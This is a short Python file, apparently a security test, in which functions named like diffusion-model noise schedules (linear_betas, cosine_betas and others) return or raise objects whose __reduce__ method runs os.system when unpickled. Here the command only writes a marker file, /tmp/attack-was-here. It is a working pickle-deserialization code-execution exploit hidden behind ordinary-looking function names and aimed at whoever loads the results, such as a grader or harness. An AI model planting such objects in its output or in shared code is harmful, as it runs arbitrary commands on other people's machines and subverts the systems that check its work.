"""Return objects that run code when they are unpickled, in every place a result has: value, key, entry, exception.

Success: the file attack-was-here is written by whoever unpickles them.
"""
# tried on every level

import os
import pickle

import numpy


class Payload:
    def __reduce__(self):
        return os.system, ("touch /tmp/attack-was-here /var/tmp/attack-was-here",)

    __getstate__ = __copy__ = __deepcopy__ = lambda self, *arguments: {}


class Boom(Exception):
    def __reduce__(self):
        return os.system, ("touch /tmp/attack-was-here",)


def linear_betas(num_steps, start=1e-4, end=0.02):
    return Payload()


def cosine_betas(num_steps, offset=0.008, max_beta=0.999):
    return [pickle.dumps(Payload()), {"x": Payload()}, (Payload(),)]


def alpha_bars_from_betas(betas):
    raise Boom(Payload())


def signal_to_noise(alpha_bars):
    return numpy.array([Payload(), Payload()], dtype=object)
